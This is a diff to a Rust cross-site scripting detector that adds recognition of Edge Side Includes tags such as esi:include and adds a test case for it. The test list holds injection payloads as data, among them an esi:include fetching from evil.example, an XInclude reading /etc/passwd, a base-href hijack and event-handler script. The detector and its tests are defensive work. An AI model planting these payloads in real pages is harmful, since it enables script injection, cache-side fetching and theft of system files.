@@ -285,7 +285,9 @@ fn is_xss_in(input: &[u8], context: Context, styles: Styles) -> bool {
                 {
                     is_scripted_style(style_sheet(input, token.start + token.len))
                 } else {
-                    !in_meta && is_black_tag(text)
+                    !in_meta
+                        && (is_black_tag(text)
+                            || (styles == Styles::WhenScripted && is_esi_tag(text)))
                 };
                 if runs {
                     return true;
@@ -425,6 +427,13 @@ fn is_active_namespace(value: &[u8]) -> bool {
     ACTIVE_NAMESPACES
         .iter()
         .any(|ns| lower.windows(ns.len()).any(|w| w == *ns))
+}
+
+/// Whether the tag `name` is Edge Side Includes' (`esi:include`, `esi:vars`, `esi:eval`...): a cache in front of
+/// the application (Varnish, Akamai, Fastly, Squid) runs it where the page is assembled, fetching URLs and writing
+/// cookies and headers into the page.
+fn is_esi_tag(name: &[u8]) -> bool {
+    name.len() > 4 && name[..4].eq_ignore_ascii_case(b"esi:")
 }
 
 /// Whether the attribute `name` is `on` and three letters or more, NUL bytes dropped as browsers drop them.
@@ -688,6 +697,7 @@ mod tests {
             b"<include xmlns=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/>",
             b"<base href=\"https://evil.example/\">",
             b"<t:set xmlns:t=\"urn:schemas-microsoft-com:time\" attributeName=\"innerHTML\" to=\"x\"/>",
+            b"Safari/537.36<esi:include src=\"http://evil.example/x\"/>",
             b"<v:rect xmlns:v=\"urn:schemas-microsoft-com:vml\" style=\"behavior:url(#default#VML)\"/>",
             b"<style>@keyframes a{}b{animation:a;}</style><b onanimationstart=prompt`1`>",
         ] {
